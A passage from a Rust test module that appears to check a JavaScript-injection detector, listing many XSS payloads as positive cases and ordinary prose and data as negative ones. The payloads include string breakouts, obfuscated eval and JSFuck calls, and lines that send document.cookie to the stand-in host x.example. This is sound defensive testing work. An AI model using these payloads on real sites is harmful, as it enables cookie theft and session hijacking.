            prop_assert!(!could_be_js(&text));
            let bytes = text.as_bytes();
            for start in 0..=bytes.len() {
                for context in [Context::Expression, Context::AfterString, Context::Substitution] {
                    prop_assert!(!read(bytes, start, context), "{:?} from {}", text, start);
                }
            }
        }
    }

    #[test]
    fn breakouts_followed_by_a_call_or_sink_are_injections() {
        for text in [
            "';alert(1)//",
            "'-alert(1)-'",
            "\";alert(1)//",
            "\\';confirm`1`//",
            "\"+prompt(document.domain)+\"",
            "');x(1);//",
            "'}foo(1)//",
            "\";location='//x.example/?'+document.cookie//",
            "';window.onerror=alert;throw 1//",
            "${alert(1)}",
            "') == print(1) =='",
            "\"}) || ['x'].find(prompt) ;var x = \"",
            "`/**/||/**/location='//x.example/?'+1/**/<!--",
            "'/**/+/**/globalthis[/al/.source+/ert/.source](/x/.source)/**///",
            "`;print`1`//",
            "'-[1].find(alert)-'",
            "';new image().src='//x.example/'+document.cookie//",
        ] {
            assert!(is_js_injection(text), "{text}");
        }
    }

    #[test]
    fn obfuscated_calls_are_injections_as_expressions() {
        for text in [
            "window['al'+'ert'](1)",
            "top[/al/.source+/ert/.source](1)",
            "[].constructor.constructor('alert(1)')()",
            "eval(atob('ywxlcnqomsk='))",
            "settimeout('alert(1)')",
            "function('alert(1)')()",
            "string.fromcharcode(97,108)",
            "self[`alert`](1)",
            "document.queryselector('p').textcontent='x'",
            "window.name='x'",
            "(![]+[])[+!+[]]",
            "onerror=alert;throw 1",
            "{onerror=eval}throw'=alert\\x281\\x29'",
            "[].sort.call`${alert}1`",
            "alert.apply`x`",
            "document.location='//x.example'",
            "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
            "import('//x.example/a.js')",
        ] {
            assert!(is_js_injection(text), "{text}");
        }
    }

    #[test]
    fn the_pages_globals_callbacks_and_hooks_are_injections() {
        for text in [
            "document['cookie']",
            "top[/*x*/'document'/*x*/][/*x*/'cookie'/*x*/]",
            "self[\n\"alert\"\n](1)",
            "this['window']",
            "window[/x/.source]",
            "[1].map(alert)",
            "[1].find(print)",
            "p.then(eval)",
            "valueof=alert;window+''",
            "tostring=print;top+1",
            "window.valueof=confirm",
            // A form's `+` reaches the application as a space.
            "(![] [])[ ! []]",
        ] {
            assert!(is_js_injection(text), "{text}");
        }
        for text in [
            "top[1] results",
            "see window [1] and frames [2]",
            "items.map(x)",
            "print(alert) is not a call of alert",
            "valueof=3",
            "valueof=1;alert",
            "tostring=yes",
            "[ ] [ ] [x] !",
            "[!] [ ] ( ) [ok] [?]",
            // Shouts: no `+`, and the blank before the run is no `+`.
            "urgent [!!!!!!!!!!]",
            "urgent [!!!! !!!! !!!!]",
        ] {
            assert!(!is_js_injection(text), "{text}");
        }
    }

    #[test]
    fn a_urls_query_values_are_read_as_expressions() {
        for text in [
            "https://x.example/?q=onerror=alert;throw 1",
            "/search?a=1&q=document['cookie']",
            "http://x.example/p?x=[1].map(alert)",
        ] {
            assert!(is_js_injection(text), "{text}");
        }
        for text in [
            "https://x.example/?q=max(a, b)&page=2",
            "/search?q=location=paris",
            "not a url?q=onerror=alert;throw 1",
        ] {
            assert!(!is_js_injection(text), "{text}");
        }
    }

    #[test]
    fn prose_and_data_are_not() {
        for text in [
            "it's john's (really)",
            "5' 10\" (tall)",
            "rock 'n' roll (live)",
            "o'reilly (2nd edition)",
            "he said \"no\" (twice)",
            "f(x) = sin(x) + 1",
            "max(a, b)",
            "the \"matrix\", wachowski (1999)",
            "{\"a\":\"b\",\"n\":[1,2]}",
            "mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36 (khtml, like gecko)",
            "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
            "location=paris",
            "use `ls -l` (long)",
            "a=1&b=2",
            "it's 5 o'clock (gmt)",
            "don't (please) do it",
            "(+1) 555-0100",
            "see document.pdf (page 2)",
            "[!] (+) [ok]",
            "online=yes",
            "please call `me` (later)",
        ] {
            assert!(!is_js_injection(text), "{text}");
        }
    }
}
